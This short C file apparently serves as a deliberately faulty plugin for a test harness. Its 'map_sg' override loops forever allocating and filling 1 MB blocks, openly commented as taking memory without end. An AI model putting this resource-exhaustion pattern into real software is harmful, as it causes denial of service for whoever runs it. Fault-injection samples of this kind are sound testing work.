#include "base.h"

/* Takes memory without end. */
static int map_sg(xd_instance *x, const xd_device *dev, xd_segment *s, int count, int direction, uint64_t attrs)
{
    while (count > 2) {
        void *more = malloc(1 << 20);
        if (more) memset(more, 1, 1 << 20);
    }
    return base_map_sg(x, dev, s, count, direction, attrs);
}

const xd_ops *xendma_ops(uint32_t version) { (void)version; ops.map_sg = map_sg; return &ops; }
